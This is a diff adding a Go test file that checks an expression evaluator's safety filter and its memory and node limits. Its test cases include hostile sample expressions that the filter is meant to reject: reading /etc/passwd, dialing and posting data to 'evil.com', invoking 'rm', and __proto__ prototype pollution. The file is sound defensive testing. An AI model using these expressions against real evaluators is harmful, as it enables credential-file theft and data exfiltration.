@@ -0,0 +1,69 @@
+package transform
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestCheckExpressionSafety(t *testing.T) {
+	tests := []struct {
+		expression string
+		unsafe     bool
+	}{
+		// Names that merely contain a denied word are allowed
+		{`Budget() > 10`, false},
+		{`net.amount > 5 && exec_count < 3`, false},
+		{`osName == "linux" && getter`, false},
+		{`get(item, "price") > 1`, false},
+		{`http_status == 200`, false},
+		// Calls into packages, file system, process and network functions
+		{`os.ReadFile("/etc/passwd")`, true},
+		{`OS.ReadFile("/etc/passwd")`, true},
+		{`net.Dial("tcp", "evil.com:80")`, true},
+		{`ReadFile("/etc/passwd")`, true},
+		{`Post("http://evil.com", "data")`, true},
+		{`item.Command("rm")`, true},
+		{`unsafe.Pointer(0)`, true},
+		{`obj.__proto__`, true},
+		{`obj["__proto__"].admin`, true},
+		{`__proto__.injected == true`, true},
+	}
+	for _, tt := range tests {
+		err := CheckExpressionSafety(tt.expression)
+		if tt.unsafe != errors.Is(err, ErrUnsafeOperation) {
+			t.Errorf("CheckExpressionSafety(%s) = %v, want unsafe %v", tt.expression, err, tt.unsafe)
+		}
+	}
+}
+
+func TestExpressionResourceLimits(t *testing.T) {
+	evaluator := NewExpressionEvaluator()
+	ctx := context.Background()
+
+	// Iterating and allocating past the memory budget stops the evaluation
+	_, err := evaluator.Evaluate(ctx, `len(map(1..2000000, # * 2))`, nil)
+	if !errors.Is(err, ErrResourceLimit) {
+		t.Errorf("over the memory budget error = %v", err)
+	}
+	result, err := evaluator.Evaluate(ctx, `len(map(1..1000, # * 2))`, nil)
+	if err != nil || result != 1000 {
+		t.Errorf("within the memory budget = %v, %v", result, err)
+	}
+
+	// Expressions larger than the node limit do not compile
+	huge := strings.TrimSuffix(strings.Repeat("x + ", MaxExpressionNodes), " + ")
+	if _, err := evaluator.Evaluate(ctx, huge, map[string]interface{}{"x": 1}); !errors.Is(err, ErrResourceLimit) {
+		t.Errorf("over the node limit error = %v", err)
+	}
+
+	// Filters are limited the same way
+	item := map[string]interface{}{"n": 1, "Budget": 5}
+	if _, err := evaluateFilterStrict(ctx, item, "@.n < len(1..2000000)"); !errors.Is(err, ErrResourceLimit) {
+		t.Errorf("filter over the memory budget error = %v", err)
+	}
+	if match, err := evaluateFilterStrict(ctx, item, "@.Budget > 0"); err != nil || !match {
+		t.Errorf("filter on a field named like a denied word = %v, %v", match, err)
+	}
+}